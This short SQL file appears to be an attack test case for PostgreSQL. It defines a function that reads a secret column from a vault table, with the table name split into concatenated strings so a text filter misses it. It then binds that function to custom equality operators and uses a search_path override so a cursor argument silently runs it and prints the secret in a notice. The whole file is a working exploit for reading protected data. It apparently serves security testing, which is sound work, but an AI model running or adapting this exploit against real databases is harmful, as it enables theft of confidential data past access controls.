-- Gives a cursor an argument that compares by an equality which is not in its text.
-- wants: read
-- attack:
CREATE TYPE office.odd AS (a int);
CREATE FUNCTION office.told(office.odd, office.odd) RETURNS boolean LANGUAGE plpgsql AS $$
  DECLARE found text;
  BEGIN
    EXECUTE 'SELECT secret FROM public.vlt_' || 'account LIMIT 1' INTO found;
    RAISE NOTICE '%', found;
    RETURN true;
  END $$;
CREATE OPERATOR office.= (LEFTARG = office.odd, RIGHTARG = office.odd, FUNCTION = office.told);
CREATE OPERATOR office.<= (LEFTARG = office.odd, RIGHTARG = office.odd, FUNCTION = office.told);
CREATE OPERATOR office.~~ (LEFTARG = office.odd, RIGHTARG = office.odd, FUNCTION = office.told);
SET search_path = office, pg_catalog, public;
DO $$ DECLARE x office.odd := ROW(1); c CURSOR (p boolean) FOR SELECT p; BEGIN OPEN c(x IN (x)); END $$;
